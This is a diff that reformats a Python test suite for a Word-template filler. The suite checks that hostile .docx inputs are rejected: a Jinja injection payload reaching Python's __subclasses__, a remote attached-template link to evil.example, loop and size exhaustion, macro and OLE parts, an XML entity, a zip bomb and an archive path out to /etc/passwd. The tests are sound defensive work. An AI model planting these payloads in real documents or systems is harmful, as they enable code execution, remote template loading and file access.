@@ -66,7 +66,7 @@ def test_a_paper_is_laid_into_a_template() -> None:
 
 
 def test_words_of_a_paper_are_never_read_as_fields() -> None:
-    from dataclasses import replace  # noqa: PLC0415
+    from dataclasses import replace
 
     paper = replace(resolution(), abstract="{{ 7*7 }} <w:p/> & {% for x in y %}")
     made = Document(BytesIO(fill(template("{{ abstract }}"), paper, Layout())))
@@ -75,7 +75,11 @@ def test_words_of_a_paper_are_never_read_as_fields() -> None:
 
 CODE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
 RELS = "word/_rels/document.xml.rels"
-OUTSIDE = '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+OUTSIDE = (
+    '<Relationship Id="rIdX" Target="http://evil.example/t.dotm" TargetMode="External" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+    "</Relationships>"
+)
 
 HOSTILE = {
     "code in the text": (template(CODE), "not_safe"),
@@ -85,16 +89,24 @@ HOSTILE = {
     "a change to a list": (template("{{ text.append('x') }}"), "not_safe"),
     "a field there is none of": (template("{{ password }}"), "unknown"),
     "a broken field": (template("{{ title"), "broken"),
-    "an endless loop": (template("{% for a in 'x'*99999 %}{% for b in 'x'*99999 %}{{ b }}{% endfor %}{% endfor %}"), None),
+    "an endless loop": (
+        template("{% for a in 'x'*99999 %}{% for b in 'x'*99999 %}{{ b }}{% endfor %}{% endfor %}"),
+        None,
+    ),
     "a huge text": (template("{{ 'x' * 99999999999 }}"), None),
     "a remote template": (replaced(template("x"), RELS, "</Relationships>", OUTSIDE), "outside"),
     "a macro": (with_part(template("x"), "word/vbaProject.bin", b"macro"), "macros"),
     "an object": (with_part(template("x"), "word/embeddings/oleObject1.bin", b"object"), "macros"),
     "an entity": (
-        replaced(template("x"), "word/document.xml", "<w:document", '<!DOCTYPE a [<!ENTITY b "c">]><w:document'),
+        replaced(
+            template("x"), "word/document.xml", "<w:document", '<!DOCTYPE a [<!ENTITY b "c">]><w:document'
+        ),
         "not_safe",
     ),
-    "a bomb": (with_part(template("x"), "word/bomb.xml", b"0" * (own_template.MOST_UNPACKED + 1)), "too_large"),
+    "a bomb": (
+        with_part(template("x"), "word/bomb.xml", b"0" * (own_template.MOST_UNPACKED + 1)),
+        "too_large",
+    ),
     "a path out of the archive": (with_part(template("x"), "../../etc/passwd", b"x"), "not_docx"),
     "a picture by another name": (b"\x89PNG\r\n", "not_docx"),
     "a workbook": (with_part(b"PK\x05\x06" + b"\0" * 18, "xl/workbook.xml", b"x"), "not_docx"),
